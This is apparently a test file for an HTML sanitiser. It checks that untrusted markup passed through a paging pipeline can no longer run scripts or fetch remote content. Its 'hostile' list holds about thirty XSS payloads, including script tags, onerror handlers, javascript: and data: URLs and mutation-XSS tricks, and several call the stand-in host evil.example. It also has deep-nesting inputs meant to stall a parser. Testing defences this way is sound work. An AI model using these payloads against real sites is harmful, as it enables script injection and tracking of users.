import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { allowedTags } from '../../../../../src/shared/document/markup.ts'
import { escapeMarkup } from '../../../../../src/shared/format/markup-text.ts'
import { MarkupFlow } from '../../../../../src/workers/pages/flow/flow.ts'
import { SafeMarkup } from '../../../../../src/workers/pages/flow/safe-markup.ts'
import { sanitise } from '../../../../../src/workers/pages/flow/sanitise.ts'
import { detachedContext } from '../../../../../src/workers/runtime/context.ts'
import { holds } from '../../../../support/property.ts'

const attributes = new Set(['id', 'lang', 'dir', 'href', 'rel', 'src', 'alt', 'start', 'colspan', 'rowspan', 'class'])
const ours = 'images/0001.png'

/** As a document's pages show it. */
async function safe(html: string): Promise<string> {
  const flow = new MarkupFlow('by length', (src) => (src === ours ? src : null), detachedContext())
  await flow.write(html)
  return flow
    .end()
    .pages.map((page) => page.html)
    .join('')
}

/** What in the markup could run, fetch, or reach outside its own names; an empty list is what is wanted. */
function dangersIn(html: string): string[] {
  const dangers: string[] = []
  const parser = new Parser({
    onopentag: (name, found) => {
      if (!allowedTags.includes(name)) dangers.push(`<${name}>`)
      for (const [key, value] of Object.entries(found)) {
        if (!attributes.has(key)) dangers.push(`${name}[${key}]`)
        if (key === 'href' && !/^(?:https?:\/\/|mailto:|#doc-)/iu.test(value)) dangers.push(`href ${value}`)
        if (key === 'src' && value !== ours) dangers.push(`src ${value}`)
        if (key === 'id' && !value.startsWith('doc-')) dangers.push(`id ${value}`)
      }
    },
    oncomment: () => dangers.push('a comment'),
    onprocessinginstruction: () => dangers.push('an instruction'),
    oncdatastart: () => dangers.push('a section of characters'),
  })
  parser.write(html)
  parser.end()
  return dangers
}

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.gif">',
  '<img src="//evil.example/a" srcset="//evil.example/b 2x">',
  '<img src="images/../../../etc/passwd">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript&colon;alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="vbscript:x" target="_top" onclick="x()">a</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><input name="attributes"><button formaction="javascript:alert(1)">x</button></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"><embed src="x"></object>',
  '<link rel=stylesheet href="//evil.example/x.css"><style>@import "//evil.example"</style>',
  '<p style="background:url(//evil.example)">x</p>',
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)',
  '<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>',
  '<p id="__proto__" class="x" name="y">x</p><img name=cookie id=getElementById>',
  '<video src="//evil.example" poster="//evil.example"><source src="//evil.example"></video>',
  '<!--[if IE]><script>alert(1)</script><![endif]--><?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>',
  '<a href="https://evil.example/"onmouseover=alert(1)>a</a>',
  '\u0000<\u0000script>alert(1)</script>',
] as const

/** Only what `SafeMarkup` lets through, written as it stands: the second look does not help here. */
function first(html: string): string {
  const pieces: string[] = []
  const markup = new SafeMarkup(
    {
      open: (name, attributes) => {
        const pairs = Object.entries(attributes).map(([key, value]) => ` ${key}="${escapeMarkup(value)}"`)
        pieces.push(`<${name}${pairs.join('')}>`)
      },
      text: (text) => pieces.push(escapeMarkup(text)),
      close: (name) => pieces.push(/^(?:br|hr|img|wbr)$/u.test(name) ? '' : `</${name}>`),
    },
    (src) => (src === ours ? src : null),
  )
  markup.write(html)
  markup.end()
  return pieces.join('')
}

const running = /<script|<[^>]*onerror=|<[^>]*javascript:/iu

describe('markup of unknown origin, made safe', () => {
  it.each(hostile)('runs and fetches nothing: %s', async (html) => {
    expect(dangersIn(await safe(html))).toEqual([])
    expect(await safe(html)).not.toMatch(running)
  })

  it.each(hostile)('does so by the first look alone, and by the second alone: %s', (html) => {
    expect(dangersIn(first(html))).toEqual([])
    expect(first(html)).not.toMatch(running)
    const dangers = dangersIn(sanitise(html)).filter((danger) => !/^src (?:x|images\/.*)$/u.test(danger))
    expect(dangers).toEqual([])
    expect(sanitise(html)).not.toMatch(running)
  })

  it('stays safe however hostile pieces are put together and cut, at the first look alone', () => {
    const pieces = [...hostile, '<', '>', '"', "'", '`', '</', '<!--', '-->', '&lt;', '&#x3c;', ' ', '=', '/', 'on']
    const piece = fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 8 }))
    const cut = fc
      .tuple(piece, fc.nat(80), fc.nat(80))
      .map(([text, from, to]) => text.slice(Math.min(from, to), Math.max(from, to)))
    holds(
      fc.property(fc.array(fc.oneof(piece, cut), { maxLength: 12 }), (parts) => {
        expect(dangersIn(first(parts.join('')))).toEqual([])
      }),
      { numRuns: 1500 },
    )
  })

  it('finds nothing to change at the second look in what the first let through', () => {
    const piece = fc.oneof(fc.constantFrom(...hostile), fc.string({ maxLength: 8 }))
    holds(
      fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
        const once = sanitise(first(parts.join('')))
        expect(sanitise(once)).toBe(once)
        expect(dangersIn(once)).toEqual([])
      }),
      { numRuns: 300 },
    )
  })

  it('keeps what a reader reads', async () => {
    const html =
      '<h2>Q&amp;A</h2><p>a <b>b</b> 1 &lt; 2</p><ul><li>c</li></ul><table data-table="0"><tr><td colspan="2">d</td><td>e</td></tr></table>'
    expect(await safe(html)).toBe(html)
  })

  it('keeps our own images, and says what another one shows', async () => {
    expect(await safe(`<img src="${ours}" alt="A map">`)).toBe(`<img src="${ours}" alt="A map" />`)
    expect(await safe('<img src="https://evil.example/a.png" alt="A map">')).toBe(
      '<span class="missing-image">A map</span>',
    )
  })

  it('leads links within the document to its own names', async () => {
    expect(await safe('<a href="#note">1</a><p id="note">N</p>')).toBe(
      '<a href="#doc-note">1</a><p id="doc-note">N</p>',
    )
    expect(await safe('<a href="#%C3%A4">1</a>')).toBe('<a href="#doc-ä">1</a>')
  })

  it('leaves no one a number that is ours: which table it is', async () => {
    expect(await safe('<table data-table="7"><tr><td>frame</td></tr></table>')).not.toContain('data-table')
  })

  it('gives the text of elements nested deeper than any page has', async () => {
    const depth = 4_000
    expect(await safe(`${'<div>'.repeat(depth)}deep${'</div>'.repeat(depth)}`)).toContain('deep')
  })

  it('refuses, at once, nesting that would keep a parser busy for minutes, and no page that only closes nothing', async () => {
    await expect(safe('<div>'.repeat(300_000))).rejects.toThrow('hostile_content')
    await expect(safe(`${'<b><p>'.repeat(100_000)}${'</i>'.repeat(200_000)}`)).rejects.toThrow('hostile_content')
    await expect(safe('<b></i>'.repeat(100_000))).rejects.toThrow('hostile_content')
    expect((await safe('<p>a<br>'.repeat(30_000))).length).toBeGreaterThan(30_000)
  })
})
